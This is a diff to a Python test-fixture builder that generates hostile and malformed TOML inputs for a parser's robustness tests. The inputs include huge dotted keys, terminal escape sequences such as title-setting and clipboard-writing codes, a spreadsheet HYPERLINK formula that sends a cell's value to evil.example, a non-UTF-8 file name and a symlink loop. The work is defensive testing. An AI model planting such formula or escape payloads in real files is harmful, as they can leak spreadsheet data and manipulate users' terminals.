@@ -132,6 +132,38 @@ def build(folder: Path) -> dict[str, tuple[Path, int]]:
         "nul-bytes": (ready.encode().replace(b"\n", b"\x00\n", 3), 2),
         "escape-in-syntax-error": (b"schema = 1\n\x1b]0;pwned\x07 = = \n", 2),
     }
+    with_win = _with_win("yes_but", "2026-11-20T16:05:00", 'concern = "x"\n')
+    texts.update(
+        {
+            # Issue 22: what still got through.
+            "dotted-key-20000-parts": ((ready + ".".join(["a"] * 20_000) + " = 1\n").encode(), 2),
+            "header-200000-parts": (
+                (ready + "[" + ".".join(["a"] * 200_000) + "]\n").encode(),
+                2,
+            ),
+            "4000-bad-statuses": (
+                (ready + '[[criteria]]\nid = "x"\ntitle = "x"\nstatus = "x"\n' * 4000).encode(),
+                2,
+            ),
+            "misspelt-key-with-escapes": (
+                with_win.replace(
+                    "[commercial]\n",
+                    '[commercial]\n"qualification_owner\\u001b]0;PWNED\\u0007" = "x"\n'
+                    '"sponsor\\u001b]52;c;ZWNobw==\\u0007\\u202e" = "x"\n"stance\\u001bc" = 1\n',
+                    1,
+                ).encode(),
+                0,
+            ),
+            "formula-cells": (
+                with_win.replace(
+                    'prospect = "',
+                    'prospect = "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"x\\")',
+                    1,
+                ).encode(),
+                0,
+            ),
+        }
+    )
     cases: dict[str, tuple[Path, int]] = {}
     for name, (raw, code) in texts.items():
         path = folder / f"{name}.toml"
@@ -151,4 +183,12 @@ def build(folder: Path) -> dict[str, tuple[Path, int]]:
     named = folder / "\x1b]0;pwned\x07.toml"
     named.write_bytes(b"schema = 1\n[pilot]\n")
     cases["hostile-file-name"] = (named, 2)
+    # A name that is not UTF-8 (and a C1 byte in it): shown with escapes, never a traceback.
+    latin = folder / os.fsdecode(b"caf\xe9-\x9b31m.toml")
+    latin.write_bytes(b"schema = 1\n[pilot]\n")
+    cases["non-utf-8-file-name"] = (latin, 2)
+    loop = folder / "loop-a.toml"
+    loop.symlink_to("loop-b.toml")
+    (folder / "loop-b.toml").symlink_to("loop-a.toml")
+    cases["symlink-loop"] = (loop, 2)
     return cases
